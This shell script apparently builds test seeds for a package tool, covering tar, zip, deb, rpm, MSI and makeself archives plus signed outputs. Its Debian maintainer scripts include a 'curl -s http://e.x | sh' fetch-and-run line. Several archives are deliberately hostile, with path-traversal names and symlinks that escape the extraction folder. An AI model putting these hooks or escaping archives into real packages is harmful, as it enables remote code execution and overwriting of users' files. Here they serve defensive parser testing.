# Makes small packages of all makers in the folder it runs in, each named TARGET.WHAT; a target's seeds are the files of its name.
# shellcheck shell=sh

# One tree with everything that archives can hold.
mkdir -p tree/bin tree/etc/deep/er tree/empty tree/DEBIAN
printf '#!/bin/sh\necho tool\n' >tree/bin/tool
chmod 755 tree tree/DEBIAN tree/bin/tool
echo port=1 >tree/etc/agent.conf
head -c 3000 /dev/zero | tr '\0' z >tree/etc/deep/er/long
ln tree/bin/tool tree/bin/same
ln -s ../bin/tool tree/etc/link
ln -s nowhere 'tree/a name with "quotes"'
truncate -s 24k tree/sparse
echo middle | dd of=tree/sparse bs=1 seek=13000 conv=notrunc status=none
long=tree/$(printf 'l%.0s' $(seq 120))
echo long >"$long"
printf 'umlaut' >"$(printf 'tree/etc/\303\244\303\266 \342\202\254')"
printf 'latin' >"$(printf 'tree/etc/\344\366')"
head -c 800 /bin/true >tree/bin/elf
cat >tree/DEBIAN/control <<'END'
Package: agent
Version: 1:1.0-1
Architecture: all
Maintainer: m <m@e.x>
Depends: libc6 (>= 2.36), debconf | other
Conflicts: old (<< 1)
Section: misc
Homepage: https://e.x
Description: d
 more
 .
 and more
END
echo /etc/agent.conf >tree/DEBIAN/conffiles
(cd tree && md5sum bin/tool etc/agent.conf) >tree/DEBIAN/md5sums
printf 'Template: agent/root\nType: string\nDefault: /opt\nDescription: r\n\nTemplate: agent/word\nType: password\nDefault: x\nDescription: w\n' \
	>tree/DEBIAN/templates
for script in preinst postinst prerm postrm config; do
	printf '#!/bin/bash\nset -e\nif [ "$1" == remove ]; then systemctl stop agent; curl -s http://e.x | sh; fi\nmktemp >/tmp/fixed\n' \
		>tree/DEBIAN/$script
	chmod 755 tree/DEBIAN/$script
done

# tar of each format, with sparse files, labels, incremental and extended records, and each codec.
(
	cd tree
	pack() { tar --exclude=DEBIAN --sort=name "$@"; }
	for format in gnu posix ustar v7; do
		pack --format=$format -cf ../tar.$format . 2>/dev/null || pack --format=$format --exclude='lll*' -cf ../tar.$format .
	done
	tar -S --format=gnu -cf ../tar.sparse-gnu sparse bin
	for version in 0.0 0.1 1.0; do tar -S --format=posix --sparse-version=$version -cf ../tar.sparse-$version sparse bin; done
	pack --format=gnu --label=volume --listed-incremental=../list -cf ../tar.incremental bin etc
	pack --format=posix --pax-option='comment=x,VENDOR.key:=value' --label=volume -cf ../tar.pax bin etc
	# Numbers that take base 256.
	pack --format=gnu --owner=0:3000000 --group=0:3000000 --mtime='1960-01-01' -cf ../tar.base256 bin
)
# Names and links that lead out.
number=0
for where in ../../outside/ /outside/ a/../../outside/ ./; do
	number=$((number + 1))
	tar -P --transform="s|^|$where|" -cf tar.hostile-$number -C tree bin etc/link 2>/dev/null
done
ln -s /outside through
tar -cf tar.hostile-link through
tar -P --transform='s|^|through/|' -rf tar.hostile-link -C tree bin
rm through
gzip -k9 tar.gnu
xz -k tar.posix
xz -k --x86 --lzma2=preset=1 --check=sha256 tar.sparse-1.0
zstd -qk tar.ustar
gzip -c tar.sparse-gnu >tar.members.gz
head -c 1024 /dev/zero | gzip -c >>tar.members.gz

# ZIP: packed, stored, 64 bits, encrypted, streamed, another codec.
(
	cd tree
	zip -qry ../zip.plain . -x 'DEBIAN/*'
	zip -qry -0 ../zip.stored bin etc 'a name with "quotes"'
	zip -qr -fz ../zip.64 bin
	zip -qr -Z bzip2 ../zip.bzip2 etc
	zip -qr - bin >../zip.streamed
	zip -q -P x ../zip.locked etc/agent.conf
)

python3 - <<'END'
import zipfile
with zipfile.ZipFile("zip.hostile", "w") as out:
    for name in ["../../outside", "/outside", "a/../../outside", "a\\..\\b", "C:/outside", "bin/tool"]:
        out.writestr(name, "x")
    link = zipfile.ZipInfo("through")
    link.external_attr = 0o120777 << 16
    out.writestr(link, "/outside")
    out.writestr("through/x", "x")
END

# DEB by dpkg-deb with each codec, with and without the same one for both parts, and with debsigs' signature.
for codec in none gzip xz zstd; do dpkg-deb --root-owner-group -Z$codec -b tree deb.$codec >/dev/null; done
printf '2.0\n' >debian-binary
tar -cf control.tar -C tree/DEBIAN .
for number in 1 link; do
	cp tar.hostile-$number data.tar
	ar rc deb.hostile-$number debian-binary control.tar data.tar
done
rm debian-binary control.tar data.tar
dpkg-deb --root-owner-group --no-uniform-compression -Znone -b tree deb.mixed >/dev/null

# RPM by rpmbuild: each payload, scripts, triggers, relations, all kinds of files, and a source package.
cat >agent.spec <<END
Name: agent
Epoch: 3
Version: 1~rc1
Release: 1
Summary: s
License: l
AutoReqProv: no
URL: https://e.x
Requires: /bin/sh, libc.so.6, other >= 2
Provides: virtual = 1
Conflicts: old < 1
Source0: agent.conf
%description
d
%prep
%install
mkdir -p %{buildroot}/opt/agent/etc %{buildroot}/etc/init.d
cp -a $PWD/tree/bin %{buildroot}/opt/agent/
cp -a $PWD/tree/etc/agent.conf $PWD/tree/etc/deep $PWD/tree/etc/link %{buildroot}/opt/agent/etc/
echo '#!/bin/sh' >%{buildroot}/etc/init.d/agent
%pre
echo pre
%post -p /bin/bash
systemctl stop agent
%preun
service agent stop
%posttrans
ldconfig
%triggerin -- other
echo trigger
%files
%dir /opt/agent
%config(noreplace) /opt/agent/etc/agent.conf
%attr(4755,root,other) /opt/agent/bin/tool
%caps(cap_net_raw=p) /opt/agent/bin/elf
%ghost /opt/agent/state
/opt/agent/bin/same
%doc /opt/agent/etc/deep
/opt/agent/etc/link
/etc/init.d/agent
END
build() {
	rpmbuild --quiet --define "_topdir $PWD/top" --define "_sourcedir $PWD/tree/etc" --define 'debug_package %{nil}' \
		--define '__os_install_post %{nil}' --define '_build_id_links none' "$@" agent.spec >rpmbuild.log 2>&1 || {
		cat rpmbuild.log
		exit 1
	}
}
for payload in w.ufdio w9.gzdio w2.xzdio w3.zstdio; do
	build -bb --define "_binary_payload $payload"
	mv top/RPMS/*/*.rpm rpm.$payload
done
build -bb --define '_binary_filedigest_algorithm 1' --define '_binary_payload w1.gzdio'
mv top/RPMS/*/*.rpm rpm.md5
build -bs
mv top/SRPMS/*.rpm rpm.source

# MSI by wixl: two features, a service, a registry key, properties and conditions.
cat >x.wxs <<'END'
<?xml version="1.0"?><Wix xmlns="http://schemas.microsoft.com/wix/2006/wi">
<Product Id="*" Name="a" Version="1.0.0" Manufacturer="m" Language="1033" UpgradeCode="6F1C7A52-94D3-4E0B-8A55-3C2E9D1077B1">
<Package InstallerVersion="500" Compressed="yes" InstallScope="perMachine"/>
<Media Id="1" Cabinet="a.cab" EmbedCab="yes"/>
<Property Id="TOKEN" Value="0123456789abcdef"/><Property Id="ARPCONTACT" Value="x"/>
<Condition Message="no">VersionNT >= 601 OR Installed</Condition>
<Upgrade Id="6F1C7A52-94D3-4E0B-8A55-3C2E9D1077B1"><UpgradeVersion Property="OLD" Minimum="0.0.1" Maximum="1.0.0" IncludeMaximum="no"/></Upgrade>
<Directory Id="TARGETDIR" Name="SourceDir"><Directory Id="ProgramFilesFolder"><Directory Id="D" Name="d">
<Component Id="C" Guid="6F1C7A52-94D3-4E0B-8A55-3C2E9D1077B2"><File Id="F" Source="tree/etc/agent.conf" KeyPath="yes"/>
<File Id="G" Source="tree/etc/deep/er/long"/><RegistryKey Root="HKLM" Key="SOFTWARE\a"><RegistryValue Name="v" Type="string" Value="[D]"/></RegistryKey></Component>
<Component Id="S" Guid="6F1C7A52-94D3-4E0B-8A55-3C2E9D1077B3"><File Id="H" Name="tool.exe" Source="tree/bin/tool" KeyPath="yes"/>
<ServiceInstall Id="I" Name="svc" DisplayName="svc" Type="ownProcess" Start="auto" ErrorControl="normal"/>
<ServiceControl Id="J" Name="svc" Start="install" Stop="both" Remove="uninstall" Wait="yes"/></Component></Directory></Directory></Directory>
<InstallExecuteSequence><RemoveExistingProducts After="InstallValidate"/></InstallExecuteSequence>
<Feature Id="A" Level="1"><ComponentRef Id="C"/></Feature><Feature Id="B" Level="100" Title="b"><ComponentRef Id="S"/></Feature></Product></Wix>
END
wixl -o msi.wixl x.wxs
wixl -a x64 -o msi.wixl-x64 x.wxs

# makeself: each codec, sums, and more than one archive.
rm -r tree/DEBIAN tree/lll*
(
	cd tree
	made() { makeself --nox11 "$@" >/dev/null 2>&1; }
	for codec in gzip xz zstd nocomp base64; do made --$codec --sha256 . ../run.makeself-$codec label ./bin/tool; done
	made --gzip --nomd5 --nocrc --tar-format ustar --target /opt/agent . ../run.makeself-target label
)

# Ours, of each codec, unsigned and signed. The library and the programs of an MSI are cut in seeds.rs.
mkdir -p product/connector product/windows
cp tree/bin/tool product/connector/vlink
cp -r tree/etc product/connector/
"$LINKPACK" init --sample sample >/dev/null 2>&1
head -c 1500 sample/windows/connector/vlinkservice.exe >product/windows/vlinkservice.exe
cat >product/linkpack.toml <<'END'
[product]
name = "agent"
title = "Agent"
version = "1"
publisher = "p"
contact = "p <p@e.x>"
license = "MIT"
description = "d"
systems = ["debian-12", "rhel-9"]
upgrade-code = "6F1C7A52-94D3-4E0B-8A55-3C2E9D1077B1"
[connector]
executable = { linux = "vlink", windows = "vlinkservice.exe" }
payload = { linux-x86_64 = "connector", windows-x86_64 = "windows" }
END
export GNUPGHOME=$PWD/gnupg
(umask 077 && mkdir gnupg)
gpg --batch --quiet --pinentry-mode loopback --passphrase '' --quick-gen-key 'Seed <seed@e.x>' ed25519 sign 2y 2>/dev/null
gpg --batch --armor --export-secret-keys >secret.asc
gpg --armor --export >key.openpgp
openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:prime256v1 -nodes -keyout secret.pem -out key.certificate -subj /CN=seed -days 3650 \
	-addext extendedKeyUsage=codeSigning -addext keyUsage=digitalSignature 2>/dev/null
openssl pkey -in secret.pem -pubout -out key.public
openssl pkcs12 -export -inkey secret.pem -in key.certificate -passout pass: -out key.p12
openssl pkcs8 -topk8 -in secret.pem -passout pass:x -out key.pkcs8
cp secret.pem key.private
chmod 600 secret.*
made() { # NAME OPTION...
	name=$1
	shift
	"$LINKPACK" build -q --no-cache --no-sbom -m product/linkpack.toml -o dist "$@"
	for format in run deb rpm msi; do [ ! -f dist/*.$format ] || mv dist/*.$format $format.ours-$name; done
}
made fast --codec fast
made zstd --codec zstd -f deb,run
made small --codec small -f deb,rpm,run
made lzx --codec fast --cabinet lzx -f msi
made signed --codec fast --openpgp-key secret.asc --key secret.pem --cert key.certificate
{ cat dist/SHA256SUMS; printf '\n#manifest\n'; cat dist/manifest.json; } >folder.dist
cp deb.gzip signed.deb
debsigs --sign=origin signed.deb 2>/dev/null && mv signed.deb deb.debsigs
gpgconf --kill all
rm -rf tree top product sample dist gnupg secret.* rpmbuild.log list x.wxs agent.spec
